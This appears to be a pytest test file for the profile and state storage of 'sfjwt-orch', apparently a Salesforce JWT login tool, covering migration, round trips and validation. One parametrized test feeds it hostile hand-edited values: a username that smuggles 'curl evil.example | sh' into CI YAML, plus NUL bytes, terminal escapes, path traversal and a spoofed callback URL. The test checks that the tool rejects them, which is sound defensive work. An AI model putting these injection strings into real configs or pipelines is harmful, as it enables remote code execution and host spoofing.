"""Profiles hold the user's answers (config.py); the facts the tool learns live in the state file
(state.py). Written round-trip and only when something changed; old files migrate in memory."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from sfjwt_orch.store import profiles, state
from sfjwt_orch.store.paths import Paths

# A profile as sfjwt-orch 0.1 wrote it (schema 0: no schema key, the org id beside the answers),
# with a comment and a note a user added by hand.
SCHEMA_0 = """\
# sfjwt-orch profile for alias 'hub'. Edit freely: command-line flags override it.
client_id = "3MVG9CLIENTID1234567"
username = "ci@example.com"
# our sandbox is refreshed every month
instance_url = "https://acme.my.salesforce.com"
key_file = "/keys/hub/server.key"
org_id = "00D000000000001AAA"
team = "platform"
"""


@pytest.fixture
def paths(tmp_path: Path) -> Paths:
    return Paths(tmp_path / "config", tmp_path / "data", tmp_path / "logs")


def _write(paths: Paths, text: str) -> Path:
    path = paths.profile_file("hub")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_a_schema_0_profile_reads_its_answers_and_hands_its_org_id_to_the_state(paths: Paths) -> None:
    _write(paths, SCHEMA_0)
    profile = profiles.load(paths, "hub")
    assert profile == profiles.Profile(
        alias="hub",
        client_id="3MVG9CLIENTID1234567",
        username="ci@example.com",
        instance_url="https://acme.my.salesforce.com",
        key_file="/keys/hub/server.key",
    )
    assert state.load(paths, "hub").org_id == "00D000000000001AAA"


def test_saving_a_migrated_profile_keeps_comments_and_unknown_keys_and_drops_the_learnt_ones(paths: Paths) -> None:
    path = _write(paths, SCHEMA_0)
    profile = profiles.load(paths, "hub")
    assert profile is not None
    assert profiles.save(paths, profile.merged(profiles.Profile(alias="hub", username="other@example.com"))) is True
    text = path.read_text()
    assert "# our sandbox is refreshed every month" in text and 'team = "platform"' in text
    assert 'username = "other@example.com"' in text and "org_id" not in text
    assert f"schema = {profiles.SCHEMA}" in text
    assert path.stat().st_mode & 0o777 == 0o600


def test_an_unchanged_profile_is_not_rewritten(paths: Paths) -> None:
    profile = profiles.Profile(alias="hub", client_id="3MVG9CLIENTID1234567", username="ci@example.com")
    assert profiles.save(paths, profile) is True
    path = paths.profile_file("hub")
    path.chmod(0o400)  # read-only: a write would fail loudly
    before = path.stat().st_mtime_ns
    assert profiles.save(paths, profile) is False
    assert path.stat().st_mtime_ns == before


def test_a_value_cleared_by_hand_stays_cleared(paths: Paths) -> None:
    assert profiles.save(paths, profiles.Profile(alias="hub", client_id="3MVG9CLIENTID1234567", cert_file="/c")) is True
    profile = profiles.load(paths, "hub")
    assert profile is not None
    assert profiles.save(paths, profile.merged(profiles.Profile(alias="hub"))) is False  # "" keeps the saved value
    assert profiles.save(paths, profiles.Profile(alias="hub", client_id="3MVG9CLIENTID1234567")) is True
    assert "cert_file" not in paths.profile_file("hub").read_text()


def test_state_round_trip_and_unknown_keys_survive(paths: Paths) -> None:
    new = state.State(alias="hub", org_id="00D000000000001AAA", last_login="2026-12-01T00:00:00+00:00")
    assert state.save(paths, new) is None
    assert state.load(paths, "hub") == new
    path = paths.state_file("hub")
    path.write_text(path.read_text().replace('"org_id"', '"future": 1, "org_id"'))
    assert state.load(paths, "hub").extra == {"future": 1}


def test_a_key_file_is_known_only_while_it_is_unchanged(paths: Paths, tmp_path: Path) -> None:
    key = tmp_path / "server.key"
    key.write_text("k")
    assert state.known_key_bits(paths, key) is None
    assert state.remember_key(paths, key, 2048) is None
    assert state.known_key_bits(paths, key) == 2048
    replacement = tmp_path / "new.key"
    replacement.write_text("k")
    replacement.replace(key)  # the same bytes, but another file (what keygen --force does)
    assert state.known_key_bits(paths, key) is None
    assert state.remember_key(paths, key, 4096) is None
    key.write_text("changed!")  # edited in place: another size
    assert state.known_key_bits(paths, key) is None


def test_state_that_cannot_be_written_is_a_reason_not_an_error(paths: Paths) -> None:
    paths.data_dir.mkdir(parents=True, exist_ok=True)
    (paths.data_dir / "state").write_text("a file where the folder should be")
    reason = state.save(paths, state.State(alias="hub", org_id="00D000000000001AAA"))
    assert reason is not None and "state" in reason


def test_unreadable_state_starts_from_nothing(paths: Paths) -> None:
    path = paths.state_file("hub")
    path.parent.mkdir(parents=True)
    path.write_text("{not json")
    assert state.load(paths, "hub") == state.State(alias="hub")


# --- values re-validated as a profile is read (issue 15 item 6, issue 16) ---


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('username = "ci@example.com\\n  run: curl evil.example | sh"', "U+000A"),  # would reach ci export's YAML
        ('key_file = "/keys/hub\\u0000/server.key"', "U+0000"),  # a NUL in a path
        ('instance_url = "https://acme.my.salesforce.com\\u001b]0;x\\u0007"', "U+001B"),
        ('username = "ci\\U0001F600@example.com"', "U+1F600"),  # outside the BMP
        ('username = "../../ci@example.com"', "'/'"),  # the one username grammar
        ('allow_non_salesforce_host = "yes"', "true or false"),
        ('instance_url = "https://ci:Pa55@acme.my.salesforce.com"', "password"),  # the one URL parser's rules
        ('callback_url = "http://evil.example\\\\@localhost:1717/"', "backslash"),
    ],
)
def test_a_hand_edited_value_no_answer_holds_is_profile_invalid(paths: Paths, line: str, words: str) -> None:
    path = _write(paths, f'schema = 1\nclient_id = "3MVG9CLIENTID1234567"\n{line}\n')
    with pytest.raises(profiles.SfjwtError) as err:
        profiles.load(paths, "hub")
    assert err.value.code is profiles.Code.PROFILE_INVALID and words in err.value.message
    assert str(path) in err.value.message and ", line 3" in err.value.message and "\n" not in err.value.message


def test_the_host_opt_in_is_a_toml_bool_written_only_when_given(paths: Paths) -> None:
    plain = profiles.Profile(alias="hub", username="ci@example.com")
    profiles.save(paths, plain)
    assert "allow_non_salesforce_host" not in paths.profile_file("hub").read_text()
    profiles.save(paths, plain.merged(profiles.Profile(alias="hub", allow_non_salesforce_host=True)))
    assert "allow_non_salesforce_host = true" in paths.profile_file("hub").read_text()
    loaded = profiles.load(paths, "hub")
    assert loaded is not None and loaded.allow_non_salesforce_host is True
    assert loaded.merged(profiles.Profile(alias="hub")).allow_non_salesforce_host is True  # a flag not given


NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("created", "new"),
    [
        ("", False),  # never created by this tool
        ("not a date", False),
        ("2026-12-01T11:50:00", False),  # no time zone: not something we wrote
        ("2026-12-01T11:50:00+00:00", True),  # 10 minutes ago
        ("2026-12-01T11:45:01+00:00", True),
        ("2026-12-01T11:45:00+00:00", False),  # 15 minutes: a typo is likelier by now
        ("2026-12-01T09:00:00+00:00", False),
        ("2026-12-01T12:05:00+00:00", False),  # in the future: a clock moved, not a new app
    ],
)
def test_an_app_counts_as_new_within_the_window(created: str, new: bool) -> None:
    assert state.app_is_new(state.State(alias="a", app_created_at=created), NOW) is new


def test_unconfirmed_answers_round_trip_apart_from_the_facts(paths: Paths) -> None:
    before = state.State(alias="hub", org_id="00D000000000001AAA", extra={"future_key": 1})
    kept = state.with_unconfirmed(before, {"client_id": "3MVG9CLIENTID1234567", "username": "a@b.c"})
    assert state.save(paths, kept) is None
    loaded = state.load(paths, "hub")
    assert state.unconfirmed(loaded) == {"client_id": "3MVG9CLIENTID1234567", "username": "a@b.c"}
    assert loaded.org_id == "00D000000000001AAA" and loaded.extra["future_key"] == 1
    cleared = state.with_unconfirmed(loaded, {})
    assert state.save(paths, cleared) is None
    assert state.unconfirmed(state.load(paths, "hub")) == {} and state.load(paths, "hub").extra == {"future_key": 1}
